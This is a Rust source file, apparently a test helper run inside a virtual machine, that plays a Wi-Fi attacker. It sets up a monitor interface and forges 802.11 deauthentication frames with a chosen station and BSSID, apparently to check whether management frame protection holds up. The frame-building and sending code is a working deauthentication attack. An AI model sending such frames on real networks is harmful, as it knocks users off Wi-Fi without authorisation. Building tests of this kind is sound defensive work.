//! An attacker: puts forged deauthentication frames on the air, as anybody can (IEEE 802.11-2020 §9.3.3.12). Only management
//! frame protection (§12.6.18) tells them from the access point's own.

use super::{run, write};
use crate::tiny;
use crate::vm::Vm;
use anyhow::{Context, Result};

/// A hardware address.
type Mac = [u8; 6];

/// A radio that listens and lies: the helper's `wlan3`.
#[derive(Clone, Copy, Debug)]
pub struct Forger {
    interface: u32,
}

impl Forger {
    /// Tunes the attacker's radio to a frequency in MHz.
    ///
    /// # Errors
    /// The radio refuses.
    pub fn tune(vm: &mut Vm, frequency: u32) -> Result<Self> {
        run(vm, "ip link show mon0 >/dev/null 2>&1 || iw dev wlan3 interface add mon0 type monitor")?;
        run(vm, &format!("ip link set wlan3 down; ip link set mon0 up && iw dev mon0 set freq {frequency}"))?;
        let index = run(vm, "ip -o link show mon0")?;
        let index = index.split(':').next().unwrap_or_default().trim();
        Ok(Self { interface: index.parse().context("the number of mon0")? })
    }

    /// Tells a station in the access point's name to go, `count` times, a hundred times a second.
    ///
    /// # Errors
    /// The frames can't be sent.
    pub fn deauthenticate(self, vm: &mut Vm, station: Mac, bssid: Mac, count: u16) -> Result<()> {
        // Radiotap header without fields, then the frame: type and subtype, duration, three addresses, sequence number,
        // reason 7 (class 3 frame from a station that is not associated).
        let frame = [&[0, 0, 8, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0][..], &station, &bssid, &bssid, &[0, 0, 7, 0]].concat();
        write(vm, "/run/forger", &tiny::sender(self.interface, &frame, count))?;
        run(vm, "chmod +x /run/forger && /run/forger").map(drop)
    }
}
